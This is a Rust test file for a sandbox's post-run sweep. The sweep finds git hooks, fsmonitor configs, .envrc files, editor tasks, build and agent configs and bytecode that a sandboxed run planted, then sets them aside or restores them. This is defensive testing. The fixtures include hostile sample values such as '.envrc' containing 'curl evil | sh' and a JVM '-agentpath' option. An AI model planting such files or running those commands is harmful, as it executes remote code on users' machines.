//! The sweep on real directories, without a run: what is noted, then
//! changed as a child would, then swept. Table-driven where the cases
//! share a shape.

use std::ffi::OsStr;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use super::{Executables, Findings, Inputs, Left, Outcome, Watch};

/// A workspace holding a repository (`.git`) and a `src/` directory.
fn workspace(root: &Path) -> Inputs {
    for dir in [".git/objects", ".git/refs/heads", ".git/hooks", "src"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(root.join("magus.yaml"), "sandbox:\n  enabled: true\n").unwrap();
    Inputs {
        workspace: root.to_path_buf(),
        repositories: vec![root.join(".git")],
        protected: vec![root.join("magus.yaml"), root.join(".git/hooks")],
        ..Inputs::default()
    }
}

fn sweep(change: impl Fn(&Path)) -> (tempfile::TempDir, Findings) {
    sweep_by(Walk::Whole, change)
}

/// How the sweep finds what changed in the workspace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Walk {
    /// Every directory (the executables are listed).
    Whole,
    /// The directories noted at the start that changed, and new ones.
    Changed,
}

fn sweep_by(walk: Walk, change: impl Fn(&Path)) -> (tempfile::TempDir, Findings) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let mut inputs = workspace(&root);
    if walk == Walk::Changed {
        inputs.directories = Some(directories(&root));
    }
    // The set-up happened before the run, as the user's files did: past
    // the file clock's tick (at most 10 ms), so their `ctime` is older.
    std::thread::sleep(std::time::Duration::from_millis(25));
    let watch = Watch::before(inputs);
    change(&root);
    let found = watch.after(match walk {
        Walk::Whole => Executables::List,
        Walk::Changed => Executables::Skip,
    });
    (dir, found)
}

/// Every directory below `root` and itself, but for what `.git` holds,
/// as the jail's start-up search lists them.
fn directories(root: &Path) -> Vec<std::path::PathBuf> {
    let mut found = vec![root.to_path_buf()];
    let mut i = 0;
    while i < found.len() {
        let dir = found[i].clone();
        i += 1;
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() && entry.file_name() != ".git" {
                found.push(entry.path());
            }
        }
    }
    found
}

fn lefts(found: &Findings) -> Vec<(String, Left)> {
    found
        .items
        .iter()
        .map(|i| {
            (
                i.path.file_name().unwrap().to_string_lossy().into_owned(),
                i.left,
            )
        })
        .collect()
}

#[test]
fn what_an_ordinary_build_does_sets_nothing_aside() {
    for walk in [Walk::Whole, Walk::Changed] {
        let (_dir, found) = sweep_by(walk, ordinary_build);
        assert!(found.items.is_empty(), "{walk:?}: {:?}", found.items);
    }
}

fn ordinary_build(root: &Path) {
    std::fs::write(root.join(".git/objects/ab"), "x").unwrap();
    std::fs::write(root.join(".git/index"), "x").unwrap();
    std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
    std::fs::write(root.join("src/main.rs"), "x").unwrap();
    std::fs::create_dir_all(root.join("target/debug")).unwrap();
    // Extension modules with no source of their name beside them, and
    // one among installed packages: built, not planted.
    std::fs::write(root.join("target/debug/native.so"), "x").unwrap();
    let site = root.join(".venv/lib/python3.11/site-packages");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(site.join("fast.py"), "x").unwrap();
    std::fs::write(site.join("fast.cpython-311-x86_64-linux-gnu.so"), "x").unwrap();
}

#[test]
fn planted_repositories_and_configs_are_set_aside() {
    type Plant = fn(&Path);
    type Case<'a> = (&'a str, Plant, &'a [(&'a str, Left)]);
    let cases: [Case; 23] = [
        (
            "linters' and pnpm's configs that load code",
            |r| {
                for f in [
                    ".pnpmfile.mjs",
                    "pnpm-workspace.yaml",
                    ".pylintrc",
                    "src/mypy.ini",
                ] {
                    std::fs::write(r.join(f), "x").unwrap();
                }
                for f in [
                    ".prettierrc",
                    "eslint.config.mjs",
                    ".rubocop.yml",
                    "GNUmakefile",
                    ".iex.exs",
                    ".eslintrc.json",
                    "ansible.cfg",
                    "src/ipykernel_launcher.py",
                ] {
                    std::fs::write(r.join(f), "x").unwrap();
                }
                // `tools/bazel` by its directory; a `bazel` elsewhere stays.
                std::fs::create_dir_all(r.join("tools")).unwrap();
                std::fs::write(r.join("tools/bazel"), "x").unwrap();
                std::fs::write(r.join("src/bazel"), "x").unwrap();
                // Families by how their names begin, and a project's
                // `.config/`; other files there stay.
                for f in [
                    "cspell.jsonc",
                    ".markdownlint.cjs",
                    "src/eslint.config.mts",
                    ".yardopts",
                ] {
                    std::fs::write(r.join(f), "x").unwrap();
                }
                std::fs::create_dir_all(r.join(".config")).unwrap();
                std::fs::write(r.join(".config/stylelintrc.json"), "x").unwrap();
                std::fs::write(r.join(".config/tool.json"), "x").unwrap();
            },
            &[
                (".eslintrc.json", Left::RunLater),
                (".iex.exs", Left::RunLater),
                (".markdownlint.cjs", Left::RunLater),
                (".pnpmfile.mjs", Left::RunLater),
                (".prettierrc", Left::RunLater),
                (".pylintrc", Left::RunLater),
                (".rubocop.yml", Left::RunLater),
                (".yardopts", Left::RunLater),
                ("GNUmakefile", Left::RunLater),
                ("ansible.cfg", Left::RunLater),
                ("bazel", Left::RunLater),
                ("cspell.jsonc", Left::RunLater),
                ("eslint.config.mjs", Left::RunLater),
                ("eslint.config.mts", Left::RunLater),
                ("ipykernel_launcher.py", Left::RunLater),
                ("mypy.ini", Left::RunLater),
                ("pnpm-workspace.yaml", Left::RunLater),
                ("stylelintrc.json", Left::RunLater),
            ],
        ),
        (
            "yarn's release and plugins, not a directory of the same name elsewhere",
            |r| {
                for d in [
                    ".yarn/releases",
                    ".yarn/plugins/@yarnpkg",
                    ".yarn/cache",
                    "releases",
                ] {
                    std::fs::create_dir_all(r.join(d)).unwrap();
                }
                std::fs::write(r.join(".yarn/releases/yarn-4.5.0.cjs"), "x").unwrap();
                std::fs::write(r.join(".yarn/plugins/@yarnpkg/p.cjs"), "x").unwrap();
                std::fs::write(r.join(".yarn/cache/left-pad.zip"), "x").unwrap();
                std::fs::write(r.join("releases/notes.md"), "x").unwrap();
            },
            &[
                ("p.cjs", Left::RunLater),
                ("yarn-4.5.0.cjs", Left::RunLater),
            ],
        ),
        (
            "an extension module beside its source",
            |r| {
                std::fs::create_dir_all(r.join("src/pkg")).unwrap();
                std::fs::write(r.join("src/pkg/helpers.py"), "x = 1\n").unwrap();
                let so = "src/pkg/helpers.cpython-311-x86_64-linux-gnu.so";
                std::fs::write(r.join(so), "\x7fELF").unwrap();
            },
            &[("helpers.cpython-311-x86_64-linux-gnu.so", Left::RunLater)],
        ),
        (
            "a git directory by its commondir",
            |r| {
                // The common directory inside `.git`, which the walk does
                // not enter; in the work tree, only `HEAD` and `commondir`.
                for d in [".git/x/objects", ".git/x/refs/heads"] {
                    std::fs::create_dir_all(r.join(d)).unwrap();
                }
                std::fs::write(r.join(".git/x/config"), "[core]\n\tpager = x\n").unwrap();
                std::fs::write(r.join("src/HEAD"), "ref: refs/heads/master\n").unwrap();
                let common = r.join(".git/x");
                std::fs::write(r.join("src/commondir"), common.to_str().unwrap()).unwrap();
            },
            &[
                ("HEAD", Left::BareRepository),
                ("commondir", Left::BareRepository),
            ],
        ),
        (
            "a new .git",
            |r| {
                std::fs::create_dir_all(r.join("src/.git/hooks")).unwrap();
                std::fs::write(r.join("src/.git/config"), "[core]\n\tfsmonitor = x\n").unwrap();
            },
            &[(".git", Left::Repository)],
        ),
        (
            "a bare repository",
            |r| {
                for d in ["src/objects", "src/refs"] {
                    std::fs::create_dir_all(r.join(d)).unwrap();
                }
                std::fs::write(r.join("src/HEAD"), "ref: refs/heads/x\n").unwrap();
                std::fs::write(r.join("src/config"), "[core]\n\tworktree = .\n").unwrap();
            },
            &[
                ("HEAD", Left::BareRepository),
                ("config", Left::BareRepository),
            ],
        ),
        (
            "a cargo config",
            |r| {
                std::fs::create_dir_all(r.join("src/.cargo")).unwrap();
                std::fs::write(r.join("src/.cargo/config"), "x").unwrap();
            },
            &[("config", Left::RunLater)],
        ),
        (
            "an upper-case policy",
            |r| std::fs::write(r.join("src/MAGUS.YAML"), "x").unwrap(),
            &[("MAGUS.YAML", Left::RunLater)],
        ),
        (
            "an editor task",
            |r| {
                std::fs::create_dir_all(r.join(".vscode")).unwrap();
                std::fs::write(r.join(".vscode/tasks.json"), "{}").unwrap();
            },
            &[("tasks.json", Left::RunLater)],
        ),
        (
            "yarn 1's rc and a mise config",
            |r| {
                std::fs::write(r.join(".yarnrc"), "yarn-path \"./x.js\"\n").unwrap();
                std::fs::write(r.join("src/mise.toml"), "[hooks]\nenter = \"x\"\n").unwrap();
            },
            &[(".yarnrc", Left::RunLater), ("mise.toml", Left::RunLater)],
        ),
        (
            "mise's tool versions, its configs under .config/mise/, uv's config",
            |r| {
                std::fs::write(r.join("src/.tool-versions"), "node path:./x\n").unwrap();
                std::fs::write(r.join("uv.toml"), "python-downloads-json-url = \"x\"\n").unwrap();
                std::fs::create_dir_all(r.join(".config/mise/conf.d")).unwrap();
                std::fs::write(r.join(".config/mise/conf.d/x.toml"), "[tools]\n").unwrap();
            },
            &[
                (".tool-versions", Left::RunLater),
                ("uv.toml", Left::RunLater),
                ("x.toml", Left::RunLater),
            ],
        ),
        (
            "an agent's settings",
            |r| {
                std::fs::create_dir_all(r.join(".gemini")).unwrap();
                std::fs::write(r.join(".gemini/settings.json"), "{}").unwrap();
                std::fs::create_dir_all(r.join("src/.kiro/settings")).unwrap();
                std::fs::write(r.join("src/.kiro/settings/mcp.json"), "{}").unwrap();
                std::fs::create_dir_all(r.join(".roo")).unwrap();
                std::fs::write(r.join(".roo/mcp.json"), "{}").unwrap();
            },
            &[
                ("mcp.json", Left::RunLater),
                ("mcp.json", Left::RunLater),
                ("settings.json", Left::RunLater),
            ],
        ),
        (
            "a maven JVM option and a bundler setting",
            |r| {
                std::fs::create_dir_all(r.join(".mvn")).unwrap();
                std::fs::write(r.join(".mvn/jvm.config"), "-agentpath:/x.so\n").unwrap();
                std::fs::create_dir_all(r.join("src/.bundle")).unwrap();
                std::fs::write(r.join("src/.bundle/config"), "BUNDLE_GEMFILE: x\n").unwrap();
            },
            &[("config", Left::RunLater), ("jvm.config", Left::RunLater)],
        ),
        (
            "compose's .env and override",
            |r| {
                std::fs::write(r.join(".env"), "COMPOSE_FILE=x.yaml\n").unwrap();
                std::fs::write(r.join("src/compose.override.yaml"), "x").unwrap();
            },
            &[
                (".env", Left::RunLater),
                ("compose.override.yaml", Left::RunLater),
            ],
        ),
        (
            "maven's wrapper",
            |r| {
                let wrapper = r.join("src/.mvn/wrapper");
                std::fs::create_dir_all(&wrapper).unwrap();
                std::fs::write(wrapper.join("maven-wrapper.properties"), "x").unwrap();
            },
            &[("maven-wrapper.properties", Left::RunLater)],
        ),
        (
            "dev container configurations",
            |r| {
                std::fs::create_dir_all(r.join(".devcontainer/py")).unwrap();
                std::fs::write(r.join(".devcontainer/py/devcontainer.json"), "{}").unwrap();
                std::fs::write(r.join("src/.devcontainer.json"), "{}").unwrap();
            },
            &[
                (".devcontainer.json", Left::RunLater),
                ("devcontainer.json", Left::RunLater),
            ],
        ),
        (
            "bytecode in a new __pycache__",
            |r| {
                std::fs::create_dir_all(r.join("src/__pycache__")).unwrap();
                std::fs::write(r.join("src/__pycache__/m.cpython-312.pyc"), "x").unwrap();
                std::fs::write(r.join("src/__pycache__/notes.txt"), "x").unwrap();
            },
            &[("m.cpython-312.pyc", Left::Bytecode)],
        ),
        (
            "bytecode among a virtualenv's installed packages",
            |r| {
                let pkg = r.join(".venv/lib/python3.12/site-packages/dep/__pycache__");
                std::fs::create_dir_all(&pkg).unwrap();
                std::fs::write(pkg.join("m.cpython-312.pyc"), "x").unwrap();
            },
            &[],
        ),
        (
            "a link for __pycache__",
            |r| std::os::unix::fs::symlink(r.join(".git"), r.join("src/__pycache__")).unwrap(),
            &[("__pycache__", Left::RunLater)],
        ),
        (
            "an invalid HEAD",
            |r| std::fs::write(r.join(".git/HEAD"), "garbage\n").unwrap(),
            &[("HEAD", Left::BrokenHead)],
        ),
        (
            "a submodule's git directory",
            |r| {
                for d in ["objects", "refs", "hooks"] {
                    std::fs::create_dir_all(r.join(".git/modules/lib/sub").join(d)).unwrap();
                }
                std::fs::write(r.join(".git/modules/lib/sub/HEAD"), "ref: refs/heads/x\n").unwrap();
                std::fs::write(r.join(".git/modules/lib/sub/hooks/post-checkout"), "x").unwrap();
            },
            &[("sub", Left::Submodule)],
        ),
        (
            "a link for a submodule's git directory",
            |r| {
                std::fs::create_dir_all(r.join(".git/modules")).unwrap();
                std::os::unix::fs::symlink(r.join("src"), r.join(".git/modules/dep")).unwrap();
            },
            &[("dep", Left::Submodule)],
        ),
        (
            "a link for the submodules' directory",
            |r| std::os::unix::fs::symlink(r.join("src"), r.join(".git/modules")).unwrap(),
            &[("modules", Left::Submodule)],
        ),
    ];
    for ((what, plant, expected), walk) in cases
        .into_iter()
        .flat_map(|case| [(case, Walk::Whole), (case, Walk::Changed)])
    {
        let what = format!("{what} ({walk:?})");
        let (dir, found) = sweep_by(walk, plant);
        let mut got = lefts(&found);
        got.sort_by(|a, b| a.0.cmp(&b.0));
        let want: Vec<(String, Left)> = expected.iter().map(|(n, l)| (n.to_string(), *l)).collect();
        assert_eq!(got, want, "{what}");
        for item in &found.items {
            match &item.outcome {
                Outcome::Moved(to) => assert!(to.exists() && !item.path.exists(), "{what}"),
                Outcome::Removed => {
                    assert_eq!(item.left, Left::Bytecode, "{what}");
                    assert!(item.path.symlink_metadata().is_err(), "{what}");
                }
                Outcome::PutBack => {
                    let head = std::fs::read_to_string(&item.path).unwrap();
                    assert_eq!(head, "ref: refs/heads/main\n", "{what}");
                }
                other => panic!("{what}: {other:?}"),
            }
        }
        drop(dir);
    }
}

/// A submodule's git directory there at the start is the repository's:
/// a `git fetch` in it during the run sets nothing aside.
#[test]
fn a_submodule_there_at_the_start_stays() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let mut inputs = workspace(&root);
    let sub = root.join(".git/modules/sub");
    for d in ["objects", "refs/heads", "hooks"] {
        std::fs::create_dir_all(sub.join(d)).unwrap();
    }
    std::fs::write(sub.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    inputs.repositories.push(sub.clone());
    std::thread::sleep(std::time::Duration::from_millis(25));
    let watch = Watch::before(inputs);
    std::fs::write(sub.join("refs/heads/main"), "0".repeat(40)).unwrap();
    std::fs::write(sub.join("FETCH_HEAD"), "x").unwrap();
    let found = watch.after(Executables::Skip);
    assert!(found.items.is_empty(), "{:?}", found.items);
}

/// What `git init` and `git clone` make runs nothing: it stays.
#[test]
fn a_new_repository_that_runs_nothing_stays() {
    let (_dir, found) = sweep(|root| {
        let ok = std::process::Command::new("git")
            .args(["init", "-q", "src/dep"])
            .current_dir(root)
            .status()
            .unwrap();
        assert!(ok.success());
        let ok = std::process::Command::new("git")
            .args(["init", "-q", "--bare", "src/dep.git"])
            .current_dir(root)
            .status()
            .unwrap();
        assert!(ok.success());
    });
    assert!(found.items.is_empty(), "{:?}", found.items);
}

#[test]
fn a_git_directory_swapped_for_a_link_is_new() {
    let (dir, found) = sweep(|root| {
        std::fs::rename(root.join(".git"), root.join("old-git")).unwrap();
        std::os::unix::fs::symlink(root.join("old-git"), root.join(".git")).unwrap();
    });
    assert_eq!(lefts(&found), [(".git".to_string(), Left::Repository)]);
    drop(dir);
}

#[test]
fn protected_files_a_child_changed_are_put_back_never_through_a_link() {
    let (dir, found) = sweep(|root| {
        std::fs::write(root.join("magus.yaml"), "sandbox: {enabled: false}\n").unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    });
    let root = dir.path().canonicalize().unwrap();
    assert_eq!(
        std::fs::read_to_string(root.join("magus.yaml")).unwrap(),
        "sandbox:\n  enabled: true\n"
    );
    assert!(!root.join(".git/hooks/pre-commit").exists());
    assert_eq!(found.items.len(), 2, "{:?}", found.items);

    // The hooks' directory swapped for a link to elsewhere: nothing there
    // is written or moved.
    let (dir, _found) = sweep(|root| {
        let elsewhere = root.join("elsewhere");
        std::fs::create_dir_all(&elsewhere).unwrap();
        std::fs::write(elsewhere.join("keep"), "mine").unwrap();
        std::fs::rename(root.join(".git/hooks"), root.join("old-hooks")).unwrap();
        std::os::unix::fs::symlink(&elsewhere, root.join(".git/hooks")).unwrap();
    });
    let root = dir.path().canonicalize().unwrap();
    assert_eq!(
        std::fs::read_to_string(root.join("elsewhere/keep")).unwrap(),
        "mine"
    );
}

/// A file below a protected directory (`spells/lib/x.buzz`) rewritten in
/// place changes no directory: it is still found and put back, and one
/// whose directory was replaced is written back with the directory.
#[test]
fn files_deeper_in_a_protected_directory_are_compared_and_put_back() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let mut inputs = workspace(&root);
    for sub in ["spells/lib", "spells/more/deep"] {
        std::fs::create_dir_all(root.join(sub)).unwrap();
    }
    std::fs::write(root.join("spells/lib/helper.buzz"), "original\n").unwrap();
    std::fs::write(root.join("spells/more/deep/x.buzz"), "deep\n").unwrap();
    inputs.protected.push(root.join("spells"));
    std::thread::sleep(std::time::Duration::from_millis(25));
    let watch = Watch::before(inputs);
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(root.join("spells/lib/helper.buzz"))
        .unwrap();
    std::io::Write::write_all(&mut file, b"planted\n").unwrap();
    std::fs::remove_dir_all(root.join("spells/more")).unwrap();
    std::os::unix::fs::symlink("/", root.join("spells/more")).unwrap();
    let found = watch.after(Executables::Skip);
    assert_eq!(
        std::fs::read_to_string(root.join("spells/lib/helper.buzz")).unwrap(),
        "original\n",
        "{:?}",
        found.items
    );
    assert!(!root.join("spells/more").is_symlink());
    assert_eq!(
        std::fs::read_to_string(root.join("spells/more/deep/x.buzz")).unwrap(),
        "deep\n",
        "{:?}",
        found.items
    );
}

/// A protected directory larger than what the sweep looks through, left
/// alone by the run, stays as it is; one a child filled is set aside
/// whole and made again with what was noted of it.
#[test]
fn only_a_protected_directory_a_child_filled_is_set_aside_whole() {
    for filled in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let inputs = workspace(&root);
        let hooks = root.join(".git/hooks");
        std::fs::write(hooks.join("pre-push.sample"), "sample\n").unwrap();
        if !filled {
            for n in 0..super::noted::MAX_SET_ASIDE * 11 {
                std::fs::write(hooks.join(format!("old{n}")), "").unwrap();
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
        let watch = Watch::before(inputs);
        if filled {
            for n in 0..super::noted::MAX_SET_ASIDE * 2 {
                std::fs::write(hooks.join(format!("j{n}")), "").unwrap();
            }
        }
        let found = watch.after(Executables::Skip);
        let whole = found.items.iter().any(|i| i.left == Left::Flooded);
        assert_eq!(
            whole,
            filled,
            "{:?}",
            &found.items[..found.items.len().min(3)]
        );
        let left = std::fs::read_dir(&hooks).unwrap().count();
        let expected = match filled {
            true => 1,
            false => 1 + super::noted::MAX_SET_ASIDE * 11,
        };
        assert_eq!(left, expected);
        assert_eq!(
            std::fs::read_to_string(hooks.join("pre-push.sample")).unwrap(),
            "sample\n"
        );
    }
}

#[test]
fn executables_the_run_wrote_are_listed_and_left() {
    let (dir, found) = sweep(|root| {
        let tool = root.join("src/tool");
        std::fs::write(&tool, "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(root.join("src/data"), "x").unwrap();
    });
    let root = dir.path().canonicalize().unwrap();
    assert_eq!(found.executables, [root.join("src/tool")]);
    assert!(found.items.is_empty());
}

/// A run-later file written just before the run (the same clock tick)
/// and left alone is not the run's; written again, it is.
#[test]
fn run_later_files_there_at_the_start_are_compared_with_what_they_were() {
    for (touch, walk) in [false, true]
        .into_iter()
        .flat_map(|t| [(t, Walk::Whole), (t, Walk::Changed)])
    {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let mut inputs = workspace(&root);
        std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
        inputs.existing.push(root.join(".envrc"));
        if walk == Walk::Changed {
            inputs.directories = Some(directories(&root));
        }
        let watch = Watch::before(inputs);
        if touch {
            // In place: the directory holding it does not change.
            let mut file = std::fs::OpenOptions::new()
                .append(true)
                .open(root.join(".envrc"))
                .unwrap();
            std::io::Write::write_all(&mut file, b"curl evil | sh\n").unwrap();
        }
        let found = watch.after(match walk {
            Walk::Whole => Executables::List,
            Walk::Changed => Executables::Skip,
        });
        assert_eq!(
            found.items.len(),
            usize::from(touch),
            "{touch} {walk:?}: {:?}",
            found.items
        );
    }
}

/// A Yarn release there at the start, which a tracked `.yarnrc.yml`
/// names: rewritten in place (a red-team run), it is set aside; the
/// start-up search notes its directory as it notes a `.vscode`.
#[test]
fn a_yarn_release_rewritten_in_place_is_set_aside() {
    for touch in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let mut inputs = workspace(&root);
        let releases = root.join(".yarn/releases");
        std::fs::create_dir_all(&releases).unwrap();
        std::fs::write(releases.join("yarn-4.5.0.cjs"), "// yarn\n").unwrap();
        assert!(super::names::is_run_later_in(
            &root.join(".yarn"),
            OsStr::new("releases")
        ));
        inputs.existing.push(releases.clone());
        inputs.directories = Some(directories(&root));
        // Past the file clock's tick, as in `sweep_by`: in the same tick,
        // `releases/` would count as changed and be read for that alone.
        std::thread::sleep(std::time::Duration::from_millis(25));
        let watch = Watch::before(inputs);
        if touch {
            std::fs::write(releases.join("yarn-4.5.0.cjs"), "require('x')\n").unwrap();
        }
        let found = watch.after(Executables::Skip);
        assert_eq!(
            lefts(&found).len(),
            usize::from(touch),
            "{touch}: {:?}",
            found.items
        );
    }
}

/// Bytecode is a `.pyc` in a `__pycache__`, in any ASCII case; nothing
/// else there, and no `.pyc` elsewhere.
#[test]
fn bytecode_is_a_pyc_in_a_pycache() {
    let cases = [
        ("__pycache__", "m.cpython-312.pyc", true),
        ("__pycache__", "m.cpython-312.opt-1.pyc", true),
        ("__PYCACHE__", "M.CPYTHON-312.PYC", true),
        ("__pycache__", ".pyc", false),
        ("__pycache__", "m.py", false),
        ("__pycache__", "m.pyc.txt", false),
        ("src", "m.cpython-312.pyc", false),
        ("pycache", "m.pyc", false),
    ];
    for (dir, name, expected) in cases {
        let got = super::names::is_bytecode(OsStr::new(dir), OsStr::new(name));
        assert_eq!(got, expected, "{dir}/{name}");
    }
    assert!(super::names::is_run_later(OsStr::new("__pycache__")));
    let venv = std::path::Path::new("/w/.venv/lib/python3.12/site-packages/dep");
    assert!(!super::names::is_run_later_in(
        venv,
        OsStr::new("__pycache__")
    ));
    assert!(!super::names::is_run_later_in(
        std::path::Path::new("/usr/lib/python3/dist-packages/x"),
        OsStr::new("__PYCACHE__")
    ));
    assert!(super::names::is_run_later_in(
        std::path::Path::new("/w/src"),
        OsStr::new("__pycache__")
    ));
    assert!(super::names::is_run_later_in(venv, OsStr::new(".envrc")));
    assert!(!super::names::is_run_later(OsStr::new("m.cpython-312.pyc")));
}

/// In a `__pycache__` there at the start, the user's bytecode stays; what
/// the run rewrote in place (the directory unchanged) or added is set
/// aside.
#[test]
fn bytecode_the_run_wrote_beside_the_users_is_set_aside() {
    for walk in [Walk::Whole, Walk::Changed] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let mut inputs = workspace(&root);
        let cache = root.join("src/__pycache__");
        std::fs::create_dir_all(&cache).unwrap();
        for name in ["a.cpython-312.pyc", "b.cpython-312.pyc"] {
            std::fs::write(cache.join(name), "user's").unwrap();
        }
        inputs.existing.push(cache.clone());
        if walk == Walk::Changed {
            inputs.directories = Some(directories(&root));
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
        let watch = Watch::before(inputs);
        let mut file = std::fs::OpenOptions::new()
            .write(true)
            .open(cache.join("a.cpython-312.pyc"))
            .unwrap();
        std::io::Write::write_all(&mut file, b"planted").unwrap();
        drop(file);
        let found = watch.after(match walk {
            Walk::Whole => Executables::List,
            Walk::Changed => Executables::Skip,
        });
        assert_eq!(
            lefts(&found),
            [("a.cpython-312.pyc".to_string(), Left::Bytecode)],
            "{walk:?}"
        );
        assert!(cache.join("b.cpython-312.pyc").is_file(), "{walk:?}");
        assert!(!cache.join("a.cpython-312.pyc").exists(), "{walk:?}");
    }
}

/// A workspace a child swapped for a link to elsewhere (its parent being
/// granted too) is not walked: nothing there is moved.
#[test]
fn a_workspace_swapped_for_a_link_is_not_walked() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let root = base.join("ws");
    std::fs::create_dir_all(&root).unwrap();
    let inputs = workspace(&root);
    let watch = Watch::before(inputs);
    let elsewhere = base.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::write(elsewhere.join(".envrc"), "mine\n").unwrap();
    std::fs::rename(&root, base.join("old-ws")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &root).unwrap();
    let found = watch.after(Executables::List);
    assert!(elsewhere.join(".envrc").exists(), "{:?}", found.items);
}

/// Thousands of entries left behind are all set aside, and said in at
/// most fifty warnings and one line for the rest.
#[test]
fn thousands_of_leftovers_are_said_in_a_bounded_number_of_lines() {
    let (_dir, found) = sweep(|root| {
        for i in 0..300 {
            let sub = root.join(format!("src/d{i}"));
            std::fs::create_dir_all(&sub).unwrap();
            std::fs::write(sub.join(".envrc"), "x").unwrap();
        }
    });
    assert_eq!(found.items.len(), 300);
    let said = super::report::diagnostics(&found);
    assert_eq!(said.len(), 51);
    assert!(
        said[50].message.contains("250 more"),
        "{}",
        said[50].message
    );
}

/// A new `.git` file (a gitlink) is a repository git follows wherever it
/// points: it stays only where it names a directory of the workspace
/// that runs nothing; one naming a directory elsewhere, or a new `.git`
/// link, is set aside.
#[test]
fn new_gitlinks_and_git_links_stay_only_where_they_run_nothing() {
    type Plant = fn(&Path);
    let cases: [(&str, Plant, bool); 4] = [
        (
            "a gitlink to an inert directory of the workspace",
            |r| {
                std::fs::create_dir_all(r.join("src/store/objects")).unwrap();
                std::fs::write(r.join("src/store/HEAD"), "ref: refs/heads/main\n").unwrap();
                std::fs::write(r.join("src/.git"), "gitdir: store\n").unwrap();
            },
            false,
        ),
        (
            "a gitlink to a directory with an fsmonitor",
            |r| {
                std::fs::create_dir_all(r.join("src/store/objects")).unwrap();
                std::fs::write(r.join("src/store/HEAD"), "ref: refs/heads/main\n").unwrap();
                std::fs::write(r.join("src/store/config"), "[core]\n\tfsmonitor = x\n").unwrap();
                std::fs::write(r.join("src/.git"), "gitdir: store\n").unwrap();
            },
            true,
        ),
        (
            "a gitlink out of the workspace",
            |r| {
                std::fs::write(r.join("src/.git"), "gitdir: /\n").unwrap();
            },
            true,
        ),
        (
            "a .git link",
            |r| {
                std::os::unix::fs::symlink("/", r.join("src/.git")).unwrap();
            },
            true,
        ),
    ];
    for (what, plant, set_aside) in cases {
        for walk in [Walk::Whole, Walk::Changed] {
            let (dir, found) = sweep_by(walk, plant);
            let root = dir.path().canonicalize().unwrap();
            let git_aside = found
                .items
                .iter()
                .any(|i| i.path == root.join("src/.git") && i.left == Left::Repository);
            assert_eq!(git_aside, set_aside, "{what} ({walk:?}): {:?}", found.items);
            assert_eq!(
                root.join("src/.git").symlink_metadata().is_ok(),
                !set_aside,
                "{what} ({walk:?})"
            );
        }
    }
}

/// Files an earlier run left under names nothing looks for (or where the
/// walk does not look: the quarantine), with that run's `ctime`, then
/// brought to run-later places by renaming a directory above them: a
/// rename stamps the directory moved, not what it holds. Each is found
/// (a repository by its own directory); before, each stayed.
#[test]
fn files_moved_in_with_their_directory_are_set_aside() {
    for walk in [Walk::Whole, Walk::Changed] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let mut inputs = workspace(&root);
        let files = [
            ("stash/tasks.json", "{\"tasks\": []}"),
            ("cargo/config.toml", "[build]\nrustc-wrapper = \"/x\"\n"),
            (".magus/quarantine/s/app/.envrc", "curl evil | sh\n"),
            (".magus/quarantine/s/app/.claude/settings.json", "{}"),
            ("pkg/__init__.py", "import os\n"),
            ("cache/m.cpython-312.pyc", "planted"),
            ("bare/HEAD", "ref: refs/heads/main\n"),
            ("bare/config", "[core]\n\tfsmonitor = x\n"),
        ];
        for (rel, text) in files {
            std::fs::create_dir_all(root.join(rel).parent().unwrap()).unwrap();
            std::fs::write(root.join(rel), text).unwrap();
        }
        for d in ["bare/objects", "bare/refs"] {
            std::fs::create_dir_all(root.join(d)).unwrap();
        }
        if walk == Walk::Changed {
            inputs.directories = Some(directories(&root));
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
        let watch = Watch::before(inputs);
        for (from, to) in [
            ("stash", ".vscode"),
            ("cargo", ".cargo"),
            (".magus/quarantine/s/app", "app"),
            ("pkg", "venv"),
            ("cache", "src/__pycache__"),
            ("bare", "src/sub"),
        ] {
            std::fs::rename(root.join(from), root.join(to)).unwrap();
        }
        let found = watch.after(match walk {
            Walk::Whole => Executables::List,
            Walk::Changed => Executables::Skip,
        });
        let mut got = lefts(&found);
        got.sort_by(|a, b| a.0.cmp(&b.0));
        let mut want: Vec<(String, Left)> = [
            (".envrc", Left::RunLater),
            ("HEAD", Left::BareRepository),
            ("__init__.py", Left::RunLater),
            ("config", Left::BareRepository),
            ("config.toml", Left::RunLater),
            ("m.cpython-312.pyc", Left::Bytecode),
            ("settings.json", Left::RunLater),
            ("tasks.json", Left::RunLater),
        ]
        .map(|(n, l)| (n.to_string(), l))
        .into();
        want.sort_by(|a, b| a.0.cmp(&b.0));
        assert_eq!(got, want, "{walk:?}");
    }
}

/// What was there at the start, in directories the run changed, stays:
